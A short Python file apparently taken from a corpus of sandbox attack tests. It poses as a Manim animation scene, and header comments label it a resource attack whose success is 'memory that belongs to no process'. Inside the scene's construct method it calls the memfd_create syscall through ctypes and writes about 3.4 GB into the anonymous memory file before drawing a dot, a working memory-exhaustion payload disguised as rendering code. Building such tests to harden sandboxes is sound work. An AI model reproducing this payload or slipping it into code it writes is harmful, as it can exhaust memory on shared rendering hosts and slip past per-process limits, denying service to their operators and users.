# ATTACK: resource
# SUCCESS: memory that belongs to no process: memfd
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        import ctypes, os, time
        f = ctypes.CDLL(None).syscall(319, b"x", 0)
        for i in range(3400): os.write(f, bytes(1 << 20))
        time.sleep(3)
        self.add(Dot()); self.wait(0.1)
